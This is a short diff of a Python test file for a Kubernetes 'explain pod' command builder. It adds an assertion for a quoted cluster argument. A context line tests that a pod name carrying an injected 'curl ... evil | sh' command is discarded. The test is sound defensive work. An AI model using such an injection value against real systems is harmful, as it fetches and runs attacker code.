@@ -160,4 +160,5 @@ def test_what_a_pod_has_not_from_the_template_is_not_changed_there():
 
 def test_a_pod_is_asked_about_by_a_name_that_kubernetes_may_have():
     assert "evenkeel explain pod/a -n shop" == asking("shop", "a")
+    assert "evenkeel explain pod/a -n shop --cluster 'a b'" == asking("shop", "a", ("--cluster", "a b"))
     assert "evenkeel explain" == asking("shop", "zz;curl${IFS}evil|sh;")
